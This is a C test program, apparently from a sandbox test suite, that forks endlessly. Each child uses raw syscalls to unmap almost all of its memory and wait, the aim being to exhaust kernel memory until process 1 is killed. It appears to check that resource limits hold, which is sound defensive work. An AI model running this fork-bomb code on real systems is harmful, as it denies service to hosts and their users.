// tries: use up its memory in processes that are each smaller than process 1, so that the kernel ends that one
// outcome: out_of_memory
// policy: {"memory": "32Mi", "processes": 4000, "disk": "64Mi", "wall": "60s"}
#include "hostile.h"

// shrink leaves of a process the page that it runs in, and waits there.
__attribute__((noreturn, aligned(4096))) static void shrink(void) {
	register unsigned long page asm("r12") = (unsigned long)&&here & ~4095UL;
here:
	asm volatile(
		"xor %%edi, %%edi\n mov %0, %%rsi\n mov $11, %%eax\n syscall\n"        // munmap(0, page)
		"lea 4096(%0), %%rdi\n movabs $0x7ffffffff000, %%rsi\n sub %%rdi, %%rsi\n mov $11, %%eax\n syscall\n"
		"1: mov $34, %%eax\n syscall\n jmp 1b\n" ::"r"(page) : "rdi", "rsi", "rax", "rcx", "r11", "memory"); // pause
	__builtin_unreachable();
}

int main(void) {
	for (;;) { // what a process costs the kernel is no memory of its own
		pid_t child = fork();
		if (child == 0)
			shrink();
		if (child < 0)
			usleep(1000);
	}
}
